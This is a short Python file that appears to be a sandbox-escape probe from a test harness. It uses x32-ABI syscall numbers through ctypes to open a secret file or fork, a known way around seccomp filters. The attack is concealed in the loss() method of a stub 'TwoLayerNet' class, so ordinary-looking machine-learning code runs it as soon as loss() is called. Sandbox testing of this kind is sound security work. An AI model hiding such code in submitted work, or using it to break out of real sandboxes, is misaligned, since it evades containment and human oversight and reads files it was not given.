"""Opens a file with a system call of the x32 interface, whose numbers are the usual ones with one bit more."""

import ctypes
import os
import platform

from world import SECRET_FILE

X32, OPEN, OPENAT, FORK = 0x40000000, 2, 257, 57
AT_FDCWD = -100


def attack():
    if platform.machine() != "x86_64":
        return
    libc = ctypes.CDLL(None)
    for number, arguments in ((OPEN, ()), (OPENAT, (AT_FDCWD,))):
        descriptor = libc.syscall(ctypes.c_long(X32 | number), *arguments, SECRET_FILE.encode(), os.O_RDONLY)
        if descriptor >= 0:
            print("GOT THROUGH: read", os.read(descriptor, 100))
            return
    pid = libc.syscall(ctypes.c_long(X32 | FORK))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        print("GOT THROUGH: forked", pid)


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
